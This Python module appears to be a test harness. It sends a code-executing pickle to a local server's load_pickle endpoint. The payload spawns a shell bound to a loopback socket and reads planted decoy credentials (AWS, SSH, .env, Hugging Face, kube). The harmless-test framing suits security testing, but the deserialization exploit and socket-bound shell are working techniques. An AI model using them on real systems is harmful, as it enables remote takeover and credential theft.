"""A harmless attack on the test server, with details that can be changed.

The pickle makes the server connect to a loopback listener of ours, start a
shell whose standard streams are that socket, and read a decoy credential in a
temporary home. The shell only says "beat" twenty times a second, for half a
minute at most: what is heard of it tells, from outside, when it was stopped.
Nothing real is read, nothing leaves the host.
"""

import http.client
import pickle
import socket
import threading
import time
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass, field
from pathlib import Path

BEAT_S = 0.05
BEATS = 600  # half a minute: long enough to be seen frozen, and gone by itself afterwards

DECOYS = {
    "aws": (
        ".aws/credentials",
        "[default]\naws_access_key_id = AKIADECOYDECOYDECOY0\naws_secret_access_key = decoy\n",
    ),
    "ssh": (
        ".ssh/id_ed25519",
        "-----BEGIN OPENSSH PRIVATE KEY-----\ndecoy\n-----END OPENSSH PRIVATE KEY-----\n",
    ),
    "dotenv": (".env", "DATABASE_URL=postgres://decoy:decoy@127.0.0.1/decoy\n"),
    "huggingface": (".cache/huggingface/token", "hf_decoy\n"),
    "kube": (".kube/config", "apiVersion: v1\nkind: Config\nusers: []\n"),
}


def _posix_script(*, orphan: bool) -> str:
    beat = f"echo beat || exit; sleep {BEAT_S}; i=$((i+1))"
    loop = f"i=0; while [ $i -lt {BEATS} ]; do {beat}; done"
    return f"( {loop} ) & exit" if orphan else loop


def _perl_script(*, orphan: bool) -> str:
    beat = f'print "beat\\n" or exit; select(undef, undef, undef, {BEAT_S})'
    loop = f"$| = 1; for (1..{BEATS}) {{ {beat} }}"
    return f"fork and exit; {loop}" if orphan else loop


def _python_script(*, orphan: bool) -> str:
    beat = f"os.write(1, b'beat\\n')\n time.sleep({BEAT_S})"
    loop = f"import os, time\nfor _ in range({BEATS}):\n {beat}"
    return f"import os\nif os.fork(): os._exit(0)\n{loop}" if orphan else loop


SCRIPTS: dict[str, tuple[str, Callable[..., str]]] = {
    "sh": ("-c", _posix_script),
    "bash": ("-c", _posix_script),
    "dash": ("-c", _posix_script),
    "perl": ("-e", _perl_script),
    "python3": ("-c", _python_script),
}

# Runs in the server. Connect, shell and read lie within a few milliseconds of each other.
PAYLOAD = """
import socket, subprocess
line = socket.create_connection({peer!r}, 2)
subprocess.Popen({command!r}, stdin=line, stdout=line, stderr=line, start_new_session={orphan!r})
with open({secret!r}, "rb") as decoy:
    decoy.read()
"""


class AttackError(ValueError):
    """The attack asked for cannot be built; the message says what can."""


@dataclass(frozen=True, slots=True)
class Attack:
    """What the payload does: which shell, which file, which loopback port."""

    secret: Path
    port: int
    shell: str = "/bin/sh"
    orphan: bool = False  # a second fork, whose parent ends: the lineage must not be lost

    def command(self) -> list[str]:
        """Return the shell's argument vector; AttackError for a program without a script here."""
        name = Path(self.shell).name
        if name not in SCRIPTS:
            raise AttackError(f"no script for {self.shell}; only for {', '.join(SCRIPTS)}")
        option, script = SCRIPTS[name]
        return [self.shell, option, script(orphan=self.orphan)]

    def code(self) -> str:
        """Return the Python source that runs where the pickle is loaded."""
        return PAYLOAD.format(
            peer=("127.0.0.1", self.port),
            command=self.command(),
            orphan=self.orphan,
            secret=str(self.secret),
        )

    def pickled(self) -> bytes:
        """Return the bytes to send."""
        return pickle.dumps(_Runs(self.code()))


@dataclass(frozen=True, slots=True)
class _Runs:
    code: str

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return exec, (self.code, {})


def plant(home: Path, kind: str) -> Path:
    """Write a decoy of a kind in DECOYS, or at any relative path, into a temporary home."""
    relative, text = DECOYS.get(kind, (kind, "decoy\n"))
    path = (home / relative).resolve()
    if not path.is_relative_to(home.resolve()):
        raise AttackError(f"{kind} leaves the home; name one of {', '.join(DECOYS)} or a path")
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(0o600)
    return path


def deliver(port: int, attack: Attack, timeout_s: float = 3.0) -> bool:
    """Send the pickle to the server on 127.0.0.1; return whether it answered in time."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout_s)
    try:
        connection.request(
            "POST",
            "/admin/load_pickle",
            attack.pickled(),
            {"Content-Type": "application/octet-stream"},
        )
        return connection.getresponse().status == http.client.OK
    except (OSError, http.client.HTTPException):
        return False
    finally:
        connection.close()


@dataclass(slots=True)
class Listener:
    """The far end of the attack, on loopback: counts what it hears and says nothing."""

    port: int = 0
    connections: int = 0
    heard_bytes: int = 0
    last_heard_ns: int = 0  # CLOCK_MONOTONIC, 0 before the first beat
    _socket: socket.socket = field(default_factory=socket.socket)
    _lines: list[socket.socket] = field(default_factory=list)

    def start(self) -> "Listener":
        """Listen on 127.0.0.1; port 0 takes a free one. OSError when the port is taken."""
        self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self._socket.bind(("127.0.0.1", self.port))
        self._socket.listen()
        self.port = self._socket.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()
        return self

    def _accept(self) -> None:
        with suppress(OSError):  # the socket was closed by stop()
            while True:
                line, _ = self._socket.accept()
                self.connections += 1
                self._lines.append(line)
                threading.Thread(target=self._hear, args=(line,), daemon=True).start()

    def _hear(self, line: socket.socket) -> None:
        with suppress(OSError):
            while heard := line.recv(4096):
                self.last_heard_ns = time.monotonic_ns()
                self.heard_bytes += len(heard)

    def stop(self) -> None:
        """Hang up and close."""
        for line in [self._socket, *self._lines]:
            with suppress(OSError):
                line.shutdown(socket.SHUT_RDWR)
            line.close()
